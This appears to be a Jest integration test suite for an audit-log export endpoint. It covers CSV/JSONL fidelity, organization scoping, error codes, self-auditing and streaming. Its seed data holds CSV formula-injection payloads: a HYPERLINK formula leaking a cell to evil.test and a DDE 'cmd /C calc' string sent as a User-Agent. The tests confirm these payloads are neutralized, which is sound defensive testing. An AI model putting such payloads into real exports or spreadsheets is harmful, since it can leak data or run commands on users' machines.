/**
 * GET /audit/export (issue 4 "Reading and exporting"): the export holds exactly what the
 * `auditEntries` pages hold for the same filter, field by field, as JSON Lines and as CSV (RFC 4180,
 * formulas neutralized); organization principals export only their own organization; refusals are
 * 401 / 404 / 400 JSON; the export writes its own audit entry before it streams and is refused when
 * it cannot (fail closed); and a large export streams completely with bounded memory.
 *
 * The expected CSV encoding is written here by hand from RFC 4180 and the OWASP CSV-injection rule,
 * not taken from the service.
 */
import { randomUUID } from "node:crypto";
import { AuditLog, type AuditRecord } from "../../src/audit/audit-log";
import { DATABASES } from "../support/databases";
import { createOrganization, createOrgWithPrincipals, createServiceAccount, type OrgFixture } from "../support/fixtures";
import { ok, startServer, type TestServer } from "../support/server";

type Node = Record<string, string | number | boolean | null>;
type Filter = Record<string, string | boolean>;

const FORMULA = `=HYPERLINK("http://evil.test/?leak="&A1,"open")`;
const RESOURCES = ["+SUM(1,2)", "-2+3", "@cmd", "plain, with comma", 'say "hi"', "conversation:42"];
const EVIL_AGENT = "=cmd|' /C calc'!A0";

/** RFC 4180: records end with CRLF; a quoted field may hold commas, quotes (doubled), CR and LF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), (i += 2);
      else if (c === '"') (quoted = false), (i += 1);
      else (field += c), (i += 1);
    } else if (c === '"' && field === "") (quoted = true), (i += 1);
    else if (c === ",") record.push(field), (field = ""), (i += 1);
    else if (c === "\r" && text[i + 1] === "\n") record.push(field), records.push(record), (record = []), (field = ""), (i += 2);
    else if (c === '"' || c === "\r" || c === "\n") throw new Error(`malformed CSV at ${i}: ${JSON.stringify(text.slice(i - 20, i + 20))}`);
    else (field += c), (i += 1);
  }
  if (field !== "" || record.length > 0) throw new Error("CSV does not end with CRLF");
  return records;
}

/** The text a CSV cell must hold for a value: OWASP — text starting with = + - @ TAB CR gets a "'". */
function expectedCell(value: Node[string]): string {
  if (value == null) return "";
  if (typeof value === "string") return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return String(value);
}

describe.each(DATABASES)("audit export on $name", (kind) => {
  let server: TestServer;
  let orgA: OrgFixture;
  let orgB: OrgFixture;
  let fields: string[];
  let seededUntil: string;
  let midpoint: string;
  const ids: Record<string, string> = {};

  const exportUrl = (params: Record<string, string | boolean> = {}) =>
    `${server.url.replace("/graphql", "/audit/export")}?${new URLSearchParams(Object.entries(params).map(([k, v]) => [k, String(v)]))}`;

  const get = (params: Record<string, string | boolean>, key: string | null = server.platformKey, headers: Record<string, string> = {}) =>
    fetch(exportUrl(params), { headers: { ...(key ? { authorization: `Bearer ${key}` } : {}), ...headers } });

  async function exportJsonl(filter: Filter, key?: string | null): Promise<Node[]> {
    const response = await get({ format: "jsonl", ...filter }, key);
    expect(response.status).toBe(200);
    const text = await response.text();
    expect(text === "" || text.endsWith("\n")).toBe(true);
    return text === "" ? [] : text.slice(0, -1).split("\n").map((line) => JSON.parse(line) as Node);
  }

  async function exportCsv(filter: Filter, key?: string | null): Promise<{ header: string[]; rows: string[][]; text: string }> {
    const response = await get({ format: "csv", ...filter }, key);
    expect(response.status).toBe(200);
    const text = await response.text();
    const [header, ...rows] = parseCsv(text);
    return { header, rows, text };
  }

  /** Every `auditEntries` page for the filter, every field of AuditEntry. */
  async function pages(filter: Filter, key = server.platformKey): Promise<Node[]> {
    const nodes: Node[] = [];
    let after: string | null = null;
    for (let page = 0; page < 1000; page += 1) {
      const data: { auditEntries: { edges: Array<{ node: Node }>; pageInfo: { hasNextPage: boolean; endCursor: string | null } } } = ok(
        await server.gql(
          `query($f: AuditEntryFilter, $after: String) { auditEntries(filter: $f, first: 50, after: $after) { edges { node { ${fields.join(" ")} } } pageInfo { hasNextPage endCursor } } }`,
          { f: filter, after },
          key,
        ),
      );
      nodes.push(...data.auditEntries.edges.map((e) => e.node));
      if (!data.auditEntries.pageInfo.hasNextPage) return nodes;
      after = data.auditEntries.pageInfo.endCursor;
    }
    throw new Error("too many pages");
  }

  async function entriesOfRequest(requestId: string): Promise<Array<Record<string, unknown>>> {
    const rows: Array<Record<string, unknown>> = await server.app.db.dataSource.query(`SELECT * FROM "audit_entry" ORDER BY "id"`);
    return rows.filter((r) => r.requestId === requestId).map((r) => ({ ...r, success: r.success === true || r.success === 1 }));
  }

  const principalId = async (key: string) => ok(await server.gql<{ me: { id: string } }>(`{ me { id } }`, {}, key)).me.id;
  const pause = () => new Promise((resolve) => setTimeout(resolve, 5));

  beforeAll(async () => {
    server = await startServer(kind);
    const introspection = ok(await server.gql<{ __type: { fields: Array<{ name: string }> } }>(`{ __type(name: "AuditEntry") { fields { name } } }`));
    fields = introspection.__type.fields.map((f) => f.name);
    orgA = await createOrgWithPrincipals(server);
    orgB = await createOrgWithPrincipals(server);
    for (const role of ["admin", "developer", "viewer", "service"] as const) ids[role] = await principalId(orgA.keys[role]);

    // Entries in A with values a spreadsheet would run, and values CSV must quote.
    ok(await server.gql(`{ can(action: READ, resource: "conversation:1") { allowed } }`, {}, orgA.keys.viewer));
    ok(await server.gql(`query($r: String) { can(action: DELETE, resource: $r) { allowed } }`, { r: FORMULA }, orgA.keys.developer));
    await pause();
    midpoint = new Date().toISOString();
    await pause();
    ok(await server.gql(`query($c: [PermissionCheckInput!]!) { checkPermissions(checks: $c) { allowed } }`, { c: RESOURCES.map((resource) => ({ action: "WRITE", resource })) }, orgA.keys.admin));
    ok(await server.gql(`{ me { id } }`, {}, orgA.keys.service, { "user-agent": EVIL_AGENT }));
    await server.gql(`mutation($i: CreateRoleMappingInput!) { createRoleMapping(input: $i) { id } }`, { i: { organizationId: orgA.id, idpGroup: "Ops", roleKey: "viewer" } }, orgA.keys.viewer);
    ok(await server.gql(`{ can(action: WRITE, resource: "b-only") { allowed } }`, {}, orgB.keys.developer));
    ok(await server.gql(`{ me { id } }`)); // the platform stream
    await pause();
    seededUntil = new Date().toISOString();
    await pause();
  });
  afterAll(() => server?.stop());

  test("JSONL holds exactly the auditEntries pages for the same filter, every field", async () => {
    const filter = { organizationId: orgA.id };
    const expected = await pages(filter);
    expect(expected.length).toBeGreaterThan(15);
    expect(Object.keys(expected[0]).sort()).toEqual([...fields].sort());
    expect(await exportJsonl(filter)).toEqual(expected);
  });

  test("CSV holds exactly the same entries: a header of every field, one record per entry, CRLF", async () => {
    const filter = { organizationId: orgA.id };
    const expected = await pages(filter);
    const { header, rows } = await exportCsv(filter);
    expect([...header].sort()).toEqual([...fields].sort());
    expect(rows).toEqual(expected.map((node) => header.map((name) => expectedCell(node[name]))));
  });

  test("CSV neutralizes formula injection in every column and quotes commas and quotes (RFC 4180)", async () => {
    const { header, rows, text } = await exportCsv({ organizationId: orgA.id, to: seededUntil });
    const column = (name: string) => rows.map((r) => r[header.indexOf(name)]);
    expect(column("resource")).toEqual(expect.arrayContaining([`'${FORMULA}`, "'+SUM(1,2)", "'-2+3", "'@cmd", "plain, with comma", 'say "hi"']));
    expect(column("userAgent")).toContain(`'${EVIL_AGENT}`);
    // No cell of the file begins with a formula character.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // On the wire: quoted, inner quotes doubled.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""open"")"`);
    expect(text).toContain(`"'+SUM(1,2)"`);
    expect(text).toContain(`"plain, with comma"`);
    expect(text).toContain(`"say ""hi"""`);
  });

  test.each([
    ["actorId", () => ({ actorId: ids.developer })],
    ["action", () => ({ action: "delete" })],
    ["operation", () => ({ operation: "Query.checkPermissions" })],
    ["resource", () => ({ resource: "plain, with comma" })],
    ["success", () => ({ success: false })],
    ["time range", () => ({ from: midpoint, to: seededUntil })],
  ] as Array<[string, () => Filter]>)("the %s filter selects what auditEntries selects", async (_name, make) => {
    const filter = { organizationId: orgA.id, ...make() };
    const expected = await pages(filter);
    expect(expected.length).toBeGreaterThan(0);
    expect(await exportJsonl(filter)).toEqual(expected);
    const { header, rows } = await exportCsv(filter);
    expect(rows).toEqual(expected.map((node) => header.map((name) => expectedCell(node[name]))));
  });

  test("a platform principal exports everything, every organization and the platform stream", async () => {
    const all = await exportJsonl({ to: seededUntil });
    expect(all).toEqual(await pages({ to: seededUntil }));
    const organizations = new Set(all.map((e) => e.organizationId));
    expect(organizations).toEqual(new Set([orgA.id, orgB.id, null]));
  });

  test("an organization viewer or admin exports only its own organization, and names no other", async () => {
    for (const role of ["viewer", "admin"] as const) {
      const own = await exportJsonl({ to: seededUntil }, orgA.keys[role]);
      expect(own.length).toBeGreaterThan(0);
      expect(new Set(own.map((e) => e.organizationId))).toEqual(new Set([orgA.id]));
      expect(own).toEqual(await pages({ to: seededUntil }, orgA.keys[role]));
      expect(await exportJsonl({ organizationId: orgA.id, to: seededUntil }, orgA.keys[role])).toEqual(own);
    }
  });

  test("another organization's id answers 404 NOT_FOUND, exactly like an id that does not exist", async () => {
    const missing = randomUUID();
    const foreign = await get({ organizationId: orgB.id }, orgA.keys.viewer);
    const absent = await get({ organizationId: missing }, orgA.keys.viewer);
    expect([foreign.status, absent.status]).toEqual([404, 404]);
    const [foreignBody, absentBody] = [await foreign.json(), await absent.json()];
    expect(foreignBody).toEqual({ error: "NOT_FOUND", message: `Organization not found: ${orgB.id}` });
    expect(absentBody).toEqual({ error: "NOT_FOUND", message: `Organization not found: ${missing}` });
    // A platform principal may export an organization that is gone: entries outlive it.
    expect(await exportJsonl({ organizationId: missing })).toEqual([]);
  });

  test("no, malformed or revoked credential → 401 UNAUTHENTICATED JSON, nothing exported", async () => {
    const account = await createServiceAccount(server, orgA.id, "viewer");
    ok(await server.gql(`mutation($id: ID!) { revokeServiceAccount(id: $id) { id } }`, { id: account.id }));
    const attempts: Array<Record<string, string>> = [{}, { authorization: "Basic dXNlcjpwYXNz" }, { authorization: `Bearer ${account.apiKey}` }];
    for (const headers of attempts) {
      const response = await fetch(exportUrl({ format: "csv" }), { headers });
      expect(response.status).toBe(401);
      expect(response.headers.get("content-type")).toMatch(/^application\/json/);
      expect(response.headers.get("www-authenticate")).toBe("Bearer");
      expect(await response.json()).toEqual({ error: "UNAUTHENTICATED", message: expect.any(String) });
    }
  });

  test("bad parameters → 400 BAD_USER_INPUT naming the field (after authentication)", async () => {
    const cases: Array<[Record<string, string>, string]> = [
      [{ format: "xml" }, "format"],
      [{ success: "yes" }, "success"],
      [{ from: "last tuesday" }, "from"],
      [{ to: "2026-02-30T00:00:00Z" }, "to"],
      [{ organisationId: orgA.id }, "organisationId"],
    ];
    for (const [params, field] of cases) {
      const response = await get(params, orgA.keys.viewer);
      expect(response.status).toBe(400);
      expect(await response.json()).toEqual({ error: "BAD_USER_INPUT", field, message: expect.any(String) });
    }
    const repeated = await fetch(`${exportUrl()}actorId=a&actorId=b`, { headers: { authorization: `Bearer ${orgA.keys.viewer}` } });
    expect([repeated.status, ((await repeated.json()) as { field: string }).field]).toEqual([400, "actorId"]);
    expect((await get({ format: "xml" }, null)).status).toBe(401);
  });

  test("response headers: content type, attachment file name, never cached", async () => {
    const jsonl = await get({ format: "jsonl" }, orgA.keys.viewer);
    await jsonl.text();
    expect(jsonl.headers.get("content-type")).toBe("application/x-ndjson");
    expect(jsonl.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="audit-${orgA.id}-\\d{8}T\\d{6}Z\\.jsonl"$`));
    expect(jsonl.headers.get("cache-control")).toBe("no-store");
    const csv = await get({ format: "csv" });
    await csv.text();
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.headers.get("content-disposition")).toMatch(/^attachment; filename="audit-all-\d{8}T\d{6}Z\.csv"$/);
    expect(csv.headers.get("cache-control")).toBe("no-store");
  });

  test("the export writes its own audit entry, durable before the first byte, and refusals are audited too", async () => {
    const requestId = `export-${randomUUID()}`;
    const response = await get({ format: "jsonl", success: true }, orgA.keys.viewer, { "x-request-id": requestId, "user-agent": "siem-pull/1.0" });
    const lines = (await response.text()).trim().split("\n").map((l) => JSON.parse(l) as Node);
    const entries = await entriesOfRequest(requestId);
    expect(entries).toEqual([
      expect.objectContaining({
        organizationId: orgA.id,
        actorId: ids.viewer,
        actorKind: "SERVICE",
        role: "viewer",
        action: "read",
        operation: "Http.auditExport",
        resource: `audit-export?format=jsonl&organizationId=${orgA.id}&success=true`,
        success: true,
        reason: null,
        userAgent: "siem-pull/1.0",
      }),
    ]);
    // It was committed before streaming began, so the export itself ends with it.
    expect(lines.at(-1)).toMatchObject({ requestId, operation: "Http.auditExport", id: String(entries[0].id) });

    const foreignId = `export-${randomUUID()}`;
    await (await get({ organizationId: orgB.id }, orgA.keys.viewer, { "x-request-id": foreignId })).text();
    expect(await entriesOfRequest(foreignId)).toEqual([
      expect.objectContaining({ organizationId: orgA.id, operation: "Http.auditExport", success: false, reason: `NOT_FOUND: Organization not found: ${orgB.id}` }),
    ]);
    const anonymousId = `export-${randomUUID()}`;
    await (await get({}, null, { "x-request-id": anonymousId })).text();
    expect(await entriesOfRequest(anonymousId)).toEqual([
      expect.objectContaining({ organizationId: null, actorId: "anonymous", operation: "Http.auditExport", success: false, reason: expect.stringMatching(/^UNAUTHENTICATED: /) }),
    ]);
  });

  test("aud-05 when its audit entry cannot be written the export is refused: 503 AUDIT_UNAVAILABLE, nothing streamed", async () => {
    const { db } = server.app;
    const name = "test_fail_export";
    if (db.dialect === "sqlite") {
      await db.transaction((em) => em.query(`CREATE TRIGGER "${name}" BEFORE INSERT ON "audit_entry" WHEN NEW."operation" = 'Http.auditExport' BEGIN SELECT RAISE(ABORT, 'forced'); END`));
    } else {
      await db.transaction(async (em) => {
        await em.query(`CREATE FUNCTION ${name}() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'forced'; END $$`);
        await em.query(`CREATE TRIGGER ${name} BEFORE INSERT ON "audit_entry" FOR EACH ROW WHEN (NEW."operation" = 'Http.auditExport') EXECUTE FUNCTION ${name}()`);
      });
    }
    try {
      const response = await get({ format: "csv", organizationId: orgA.id });
      expect(response.status).toBe(503);
      expect(response.headers.get("content-type")).toMatch(/^application\/json/);
      expect(response.headers.get("content-disposition")).toBeNull();
      const body = await response.json();
      expect(body).toEqual({ error: "AUDIT_UNAVAILABLE", message: expect.stringMatching(/audit trail is unavailable/) });
      expect(JSON.stringify(body)).not.toMatch(/forced|INSERT|audit_entry/);
    } finally {
      if (db.dialect === "sqlite") await db.transaction((em) => em.query(`DROP TRIGGER "${name}"`));
      else
        await db.transaction(async (em) => {
          await em.query(`DROP TRIGGER ${name} ON "audit_entry"`);
          await em.query(`DROP FUNCTION ${name}()`);
        });
    }
    expect((await get({ organizationId: orgA.id })).status).toBe(200);
  });

  test("a 20,000-entry export streams completely, in id order, with bounded server memory", async () => {
    const bulk = await createOrganization(server);
    const viewer = await createServiceAccount(server, bulk.id, "viewer");
    const writer = new AuditLog(server.app.db); // the service's writer class, on the server's database
    const TOTAL = 20_000;
    const BATCH = 500;
    for (let start = 0; start < TOTAL; start += BATCH) {
      const records: AuditRecord[] = Array.from({ length: BATCH }, (_, i) => ({
        organizationId: bulk.id,
        actorId: `bulk-loader-${(start + i) % 7}`,
        actorKind: "SERVICE",
        role: "service",
        action: "read",
        operation: "Query.can",
        resource: `conversation:${start + i},"quoted" =x`,
        success: (start + i) % 3 !== 0,
        reason: `bulk entry ${start + i}`,
        ipAddress: "127.0.0.1",
        userAgent: "bulk/1.0",
        requestId: `bulk-${start + i}`,
      }));
      await writer.record(records);
    }

    for (const [format, key] of [["jsonl", viewer.apiKey], ["csv", server.platformKey]] as const) {
      const rssBefore = process.memoryUsage().rss;
      let rssPeak = rssBefore;
      const response = await get({ format, organizationId: bulk.id }, key);
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      const decoder = new TextDecoder();
      let pending = "";
      let records = 0;
      let lastId = 0;
      let ordered = true;
      for (let chunks = 0; chunks < 1_000_000; chunks += 1) {
        const { done, value } = await reader.read();
        if (done) break;
        rssPeak = Math.max(rssPeak, process.memoryUsage().rss);
        pending += decoder.decode(value, { stream: true });
        const separator = format === "csv" ? "\r\n" : "\n";
        const parts = pending.split(separator);
        pending = parts.pop()!;
        for (const line of parts) {
          if (format === "csv" && records === 0 && line.startsWith("id,")) continue; // header
          const id = format === "jsonl" ? Number((JSON.parse(line) as Node).id) : Number(line.slice(0, line.indexOf(",")));
          ordered &&= id > lastId;
          lastId = id;
          records += 1;
        }
      }
      expect(pending).toBe("");
      const [{ n }] = await server.app.db.dataSource.query(
        kind.name === "postgres" ? `SELECT COUNT(*) AS n FROM "audit_entry" WHERE "organizationId" = $1 AND "id" <= $2` : `SELECT COUNT(*) AS n FROM "audit_entry" WHERE "organizationId" = ? AND "id" <= ?`,
        [bulk.id, lastId],
      );
      expect(records).toBe(Number(n));
      expect(records).toBeGreaterThan(TOTAL);
      expect(ordered).toBe(true);
      // A generous sanity bound on the in-process server's growth, not a measurement.
      expect(rssPeak - rssBefore).toBeLessThan(200 * 1024 * 1024);
    }
  }, 120_000);
});
